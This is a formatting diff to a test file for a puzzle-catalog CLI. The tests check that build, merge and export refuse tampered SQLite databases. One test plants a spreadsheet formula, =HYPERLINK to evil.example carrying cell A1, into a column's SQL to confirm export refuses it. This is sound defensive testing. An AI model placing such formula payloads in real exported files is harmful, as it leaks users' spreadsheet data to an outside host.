@@ -67,7 +67,7 @@ describe('a foreign file whose meta table says it is a catalog (1.1)', () => {
     expectRefused('build', cli(VERBS.build(path)), /table writer is missing/);
   });
 
-  it("whose puzzles table is dropped while slots still refer to it is refused by export", () => {
+  it('whose puzzles table is dropped while slots still refer to it is refused by export', () => {
     const path = damaged((d) => {
       d.pragma('foreign_keys = OFF');
       d.exec('DROP TABLE puzzles');
@@ -77,7 +77,12 @@ describe('a foreign file whose meta table says it is a catalog (1.1)', () => {
 });
 
 describe("a build row whose recorded options are not dominosa's (1.1)", () => {
-  for (const options of ['null', 'garbage', '{"shard":null,"maxSlots":3}', '{"sizes":"3..4","shard":{"index":0,"count":1},"maxSlots":9}']) {
+  for (const options of [
+    'null',
+    'garbage',
+    '{"shard":null,"maxSlots":3}',
+    '{"sizes":"3..4","shard":{"index":0,"count":1},"maxSlots":9}',
+  ]) {
     it(`(${options}) is refused by merge, naming them`, () => {
       const path = damaged((d) => d.prepare('UPDATE builds SET options = ?').run(options));
       expectRefused('merge', cli(VERBS.merge(path)), /recorded options|not built with --shard/);
@@ -108,7 +113,9 @@ describe("a changed generated column's SQL (1.4)", () => {
   const swapped = (): string =>
     damaged((d) => {
       const sql = d.prepare(`SELECT sql FROM sqlite_master WHERE name = 'puzzles'`).pluck().get() as string;
-      const evil = sql.replace(`WHEN 1 THEN 'singles'`, `WHEN 1 THEN '=HYPERLINK("http://evil.example/?"&A1,"singles")'`).replace(`WHEN 5 THEN 'sets'`, `WHEN 5 THEN 'singles'`);
+      const evil = sql
+        .replace(`WHEN 1 THEN 'singles'`, `WHEN 1 THEN '=HYPERLINK("http://evil.example/?"&A1,"singles")'`)
+        .replace(`WHEN 5 THEN 'sets'`, `WHEN 5 THEN 'singles'`);
       expect(evil).not.toBe(sql);
       // better-sqlite3 guards the schema's text unless told otherwise, as a careful writer would.
       d.unsafeMode(true);
@@ -121,7 +128,11 @@ describe("a changed generated column's SQL (1.4)", () => {
     const path = swapped();
     const out = join(dir, 'evil.csv');
     expectRefused('export', cli(['export', '--db', path, '--format', 'csv', '--out', out]), /table puzzles .*differs/);
-    expectRefused('export', cli(['export', '--db', path, '--grade', 'singles', '--format', 'csv', '--out', out]), /table puzzles .*differs/);
+    expectRefused(
+      'export',
+      cli(['export', '--db', path, '--grade', 'singles', '--format', 'csv', '--out', out]),
+      /table puzzles .*differs/,
+    );
     expect(existsSync(out)).toBe(false);
     const audit = cli(VERBS.audit(path));
     expect(audit.code).toBe(1);
